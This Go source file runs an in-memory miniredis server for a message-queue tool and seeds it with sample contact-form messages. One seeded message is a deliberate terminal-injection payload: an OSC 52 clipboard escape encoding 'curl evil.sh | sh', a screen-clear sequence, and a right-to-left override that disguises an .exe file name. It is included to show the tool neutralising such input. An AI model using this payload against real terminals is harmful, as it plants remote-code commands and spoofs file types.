// Package embedded runs the in-memory server reviewq falls back to when no
// server is configured: a miniredis in the process, seeded with realistic
// contact messages, so `make run` works on a fresh machine. Nothing is kept
// after exit, and the console says so.
package embedded

import (
	"context"
	"fmt"
	"time"

	"github.com/alicebob/miniredis/v2"

	"github.com/reviewq/reviewq/queue"
)

// Server is a running in-memory server.
type Server struct {
	mr *miniredis.Miniredis
	// frozen is the instant the server's clock stands still at
	// (StartFrozen); zero runs it on the real clock.
	frozen time.Time
}

// Start starts the in-memory server on a free loopback port.
func Start() (*Server, error) {
	mr := miniredis.NewMiniRedis()
	// Keys expire as time passes, as on a real server: the activity counts
	// of a minute, an idempotency key after its 24 hours. (By default
	// miniredis only expires keys when told to.)
	mr.ClockTTL(true)
	if err := mr.StartAddr("127.0.0.1:0"); err != nil {
		return nil, fmt.Errorf("embedded server: %w", err)
	}
	return &Server{mr: mr}, nil
}

// Addr is host:port.
func (s *Server) Addr() string { return s.mr.Addr() }

// Options are how to connect to it: as the one standalone server it is
// (miniredis answers CLUSTER SLOTS, so valkey-go would otherwise treat it as
// a cluster, and reviewq would name keys differently from a real server).
func (s *Server) Options() queue.ServerOptions {
	return queue.ServerOptions{Endpoint: s.Addr(), Standalone: true}
}

// Close stops the server; its data is gone.
func (s *Server) Close() { s.mr.Close() }

// Sample is one seeded message.
type Sample struct{ Name, Email, Message string }

// Samples are the messages the embedded server starts with: the kind of
// thing a contact form receives, including one that is hostile to
// terminals, to show it is neutralised.
var Samples = []Sample{
	{"Maya Patel", "maya.patel@example.com", "Hi! I was charged twice for my March invoice (#INV-2291). Could you refund the duplicate? Thanks, Maya"},
	{"Jonas Berg", "jonas@berg-consulting.example", "We'd like a quote for 40 seats on the team plan, billed yearly. Do you offer a discount for non-profits?"},
	{"Aiko Tanaka", "aiko.tanaka@example.jp", "パスワードをリセットできません。リセットメールが届きません。 (I can't reset my password; the reset email never arrives.)"},
	{"Lucas Moreau", "lucas.moreau@example.fr", "The export to CSV drops accented characters: \"Crème brûlée\" becomes \"Cr?me br?l?e\". Is there a UTF-8 option?"},
	{"Priya Raman", "priya@startup.example", "Feature request: could the API return rate-limit headers? We keep hitting 429s without knowing when to retry."},
	{"Tom O'Neill", "tom.oneill@example.ie", "Your status page says all green but the dashboard has been timing out for an hour in eu-west. Screenshots on request."},
	{"Sofia Rossi", "sofia.rossi@example.it", "Please delete my account and all associated data under GDPR Article 17. Account email is this one."},
	{"Ahmed Hassan", "ahmed.h@example.org", "Love the product! Small thing: dark mode makes the chart legends unreadable (grey on dark grey)."},
	{"Eve Mallory", "eve@example.net", "Totally normal message\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1b[Hwith a \u202egnp.exe\u202c attachment"},
	{"Chen Wei", "chen.wei@example.cn", "Is there an on-premise version? Our compliance team requires data to stay in our own datacenter."},
	{"Olivia Brown", "olivia.brown@example.co.uk", "The invoice PDF shows our old address. We moved in January:\n\n  Unit 4, 12 Harbour Road\n  Bristol BS1 5TT\n\nCan you reissue it?"},
	{"Diego Fernández", "diego.fernandez@example.es", "Webhook deliveries started failing at 09:14 UTC with 'certificate has expired'. Nothing changed on our side."},
}

// Later is the sample added for later: it waits, scheduled, for
// LaterDelay after the seeding, then arrives like any message.
var Later = Sample{"Hedy Lamarr", "hedy@example.org", "Please call me back after 3 pm about the renewal; I'm in meetings until then."}

// LaterDelay is how long after the seeding Later arrives.
const LaterDelay = 2 * time.Minute

// Seed adds the samples and leaves one message held by "bob" and idle past
// the reclaim threshold, so the first claim shows a RECLAIMED message, and
// adds Later for LaterDelay from now, so Stream shows a scheduled message
// that then arrives.
func (s *Server) Seed(ctx context.Context, c *queue.Client) error {
	batch := make([][]queue.Field, len(Samples))
	for i, s := range Samples {
		batch[i] = c.ContactFields(s.Name, s.Email, s.Message)
	}
	for _, r := range c.AddMany(ctx, batch) {
		if r.Err != nil {
			return r.Err
		}
	}
	// bob claimed the first one a while ago and walked away from it: run
	// his claim on a clock set back past the reclaim threshold.
	s.at(s.Now().Add(-c.Config().ReclaimAfter - 13*time.Second))
	defer s.reset()
	res, err := c.WithConsumer("bob").Claim(ctx)
	if err != nil {
		return err
	}
	if res.Message == nil {
		return fmt.Errorf("embedded server: seeding left nothing to claim")
	}
	_, err = c.AddContactLater(ctx, "", Later.Name, Later.Email, Later.Message, c.Config().Now().Add(LaterDelay))
	return err
}
